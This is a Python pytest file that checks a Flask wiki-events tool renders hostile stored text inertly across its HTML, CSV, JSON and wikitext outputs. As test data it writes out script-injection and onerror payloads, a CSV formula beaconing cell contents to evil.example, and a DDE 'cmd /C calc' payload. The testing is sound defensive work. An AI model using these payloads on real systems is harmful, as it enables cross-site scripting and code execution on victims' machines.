"""Hostile text from wiki pages is shown as text everywhere (issue #12, item 4; DESIGN §10).

The store (tests/hostile_store.py) holds events, a cohort, people and pages whose names, titles,
context, organizers and problems carry script injections, ``javascript:`` URLs, spreadsheet
formulas and wikitext. Every route of the app (tests/routes.py) is fetched, with each of those
events, the cohort and a comparison by every context field, by a visitor, an organizer (who sees
every participant and page) and a participant: no HTML answer holds an element, attribute or link
a payload made; no CSV cell is a formula; no wikitext export adds markup; JSON is served as JSON.
"""

from __future__ import annotations

import html
import json
import re
from pathlib import Path
from urllib.parse import urlencode

import flask
import pytest
from markupsafe import escape
from werkzeug.test import TestResponse

from tests import hostile_store as hostile
from tests.routes import urls
from tests.security_checks import csv_problems, html_problems, wikitext_problems
from tests.store_fixtures import migrated
from tool import create_app
from tool.metrics.keys import CONTEXT_KEYS
from tool.store import Store
from tool.web.auth import USER


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> flask.Flask:
    url = migrated(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'store.sqlite'}")
    store = Store(url)
    hostile.fill(store)
    store.dispose()
    return create_app({"DATABASE_URL": url, "TESTING": True})


def every_url(app: flask.Flask) -> list[str]:
    """Every GET route with each hostile event, the cohort and a comparison by each field."""
    found: list[str] = []
    for event in (hostile.EVENT, hostile.OTHER_EVENT):
        found += [u.url for u in urls(app, event, hostile.COHORT) if "GET" in u.methods]
    for by in CONTEXT_KEYS:
        found += [f"/compare?by={by}", f"/api/v1/compare?by={by}"]
        found += [f"/compare/outcomes.{fmt}?by={by}" for fmt in ("csv", "json", "wiki")]
    found += ["/?" + urlencode({"search": hostile.SCRIPT})]
    found += ["/?" + urlencode({"region": hostile.CONTEXT["region"]})]
    return list(dict.fromkeys(found))


def client_as(app: flask.Flask, user: str | None) -> flask.testing.FlaskClient:
    client = app.test_client()
    if user is not None:
        with client.session_transaction() as session:
            session[USER] = user
    return client


def problems_of(response: TestResponse) -> list[str]:
    text = response.get_data(as_text=True)
    kind = response.mimetype
    if kind == "text/html":
        return html_problems(text, hostile.PAYLOADS)
    if kind == "text/csv":
        return csv_problems(text)
    if kind == "application/json":
        json.loads(text)  # whole and valid: payloads inside are strings, never markup
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        return []
    if response.request.path.endswith(".wiki"):
        assert kind == "text/plain", kind
        return wikitext_problems(text, (*hostile.PAYLOADS, hostile.JAVASCRIPT))
    if kind == "text/css":
        return []
    return [f"an answer of type {kind}"]


@pytest.mark.parametrize(
    "who", [None, hostile.ORGANIZER, hostile.PEOPLE[0]], ids=["visitor", "organizer", "participant"]
)
def test_no_answer_of_any_route_lets_a_hostile_text_act(app: flask.Flask, who: str | None) -> None:
    client = client_as(app, who)
    checked: dict[str, int] = {}
    found: dict[str, list[str]] = {}
    for url in every_url(app):
        for language in ("en", "ar"):
            response = client.get(url + ("&" if "?" in url else "?") + f"uselang={language}")
            kind = str(response.mimetype)
            checked[kind] = checked.get(kind, 0) + 1
            problems = problems_of(response)
            if problems:
                found[f"{url} ({language}, {response.status_code})"] = problems
            disposition = response.headers.get("Content-Disposition")
            if disposition:
                assert not {"\r", "\n"} & set(disposition)
    print(f"\n{who or 'a visitor'}: answers checked by type {checked}")
    assert found == {}


def test_the_hostile_texts_are_on_the_pages_as_text(app: flask.Flask) -> None:
    """The pages do show the hostile names and values (so the test above read them), as text."""
    client = client_as(app, hostile.ORGANIZER)
    path = f"/event/{hostile.EVENT.replace(' ', '_')}"
    event = client.get(path).get_data(as_text=True)
    shown = html.unescape(event)
    assert f"{hostile.SCRIPT}{hostile.ATTRIBUTE}" in shown  # the name
    assert str(escape(hostile.SCRIPT)) in event  # as Jinja escapes it
    assert 'goal_"><img_src=x_onerror=alert(1)>' in shown  # a problem, quoting the page
    why = html.unescape(client.get(f"{path}/contributions").get_data(as_text=True))
    for person in hostile.PEOPLE:
        assert person in why
    for title in hostile.PAGE_TITLES:
        assert title.strip() in why
    compare = html.unescape(client.get("/compare?by=region").get_data(as_text=True))
    assert hostile.CONTEXT["region"] in compare


def test_csv_cells_that_would_run_are_text(app: flask.Flask) -> None:
    client = client_as(app, hostile.ORGANIZER)
    path = f"/event/{hostile.EVENT.replace(' ', '_')}/contributions.csv"
    contributions = client.get(path).get_data(as_text=True)
    assert '\'=HYPERLINK(""http://evil.example"",""Cid Private"")' in contributions  # a user name
    assert '\'=HYPERLINK(""http://evil.example/?""&A1' in contributions  # a page title
    compare = client.get("/compare/outcomes.csv?by=country").get_data(as_text=True)
    assert "\r\n'+cmd|' /C calc'!A0,2," in compare  # a group: a context value


def test_the_checks_find_what_they_look_for() -> None:
    """The checks above are not blind: each finds a payload that acted."""
    assert html_problems("<p><script>alert(1)</script></p>")
    assert html_problems("<img src=x onerror=alert(1)>")
    assert html_problems('<a href=" java\tscript:alert(1)">x</a>')
    assert html_problems('<img srcset="a.png 1x, javascript:alert(1) 2x">')
    assert html_problems("<p>" + hostile.SCRIPT + "</p>", (hostile.SCRIPT,))
    assert not html_problems('<a href="/event/Javascript:alert(1)">x</a>')
    assert csv_problems('figure,value\r\n"=HYPERLINK(""http://x"")",1\r\n')
    assert csv_problems("a\r\n@SUM(1)\r\n")
    assert not csv_problems("a,b\r\n-20,'=1+1\r\n")
    assert wikitext_problems("| [[Category:Evil]] ||", (hostile.WIKITEXT,))


def test_the_wikitext_export_writes_hostile_names_as_text(app: flask.Flask) -> None:
    """In nowiki, with "<" and "&" as entities so nothing can close it (tool/wiki/literal.py)."""
    client = client_as(app, None)
    compare = client.get("/compare/outcomes.wiki?by=region").get_data(as_text=True)
    assert "&lt;script>alert" in compare
    assert wikitext_problems(compare, hostile.PAYLOADS) == []
    cohort = client.get(f"/cohort/{hostile.COHORT}/outcomes.wiki").get_data(as_text=True)
    assert wikitext_problems(cohort, hostile.PAYLOADS) == []
    assert "[[" not in re.sub(r"<nowiki>.*?</nowiki>", "", cohort, flags=re.S)


def test_pages_for_a_hostile_title_still_link_to_the_tool_itself(tmp_path: Path) -> None:
    """An event titled like a URL scheme ("Javascript:alert(1)") is linked as a path of the tool."""
    url = migrated(f"sqlite:///{tmp_path / 'store.sqlite'}")
    store = Store(url)
    hostile.fill(store)
    store.dispose()
    page = create_app({"DATABASE_URL": url}).test_client().get("/").get_data(as_text=True)
    assert 'href="/event/Javascript:alert(1)"' in page
